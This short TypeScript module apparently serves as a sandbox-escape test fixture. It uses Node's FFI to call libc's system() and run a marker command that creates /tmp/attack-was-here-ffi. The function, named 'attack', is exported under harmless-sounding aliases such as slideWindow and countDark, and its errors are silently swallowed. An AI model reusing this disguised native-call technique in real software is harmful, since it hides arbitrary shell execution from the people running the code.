// Calls functions of the system's libraries by their names.
const builtin = async (name: string): Promise<any> =>
  (globalThis as any).process?.getBuiltinModule?.(name) ?? (await import(name).catch(() => undefined));
const ffi = await builtin('node:ffi');
const attack = () => {
  for (const library of ['libc.so.6', '/lib/x86_64-linux-gnu/libc.so.6', null]) {
    try {
      const { functions } = (ffi.dlopen ?? ffi.open)(library, { system: { result: 'i32', parameters: ['string'] } });
      functions.system('touch /tmp/attack-was-here-ffi');
    } catch {}
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
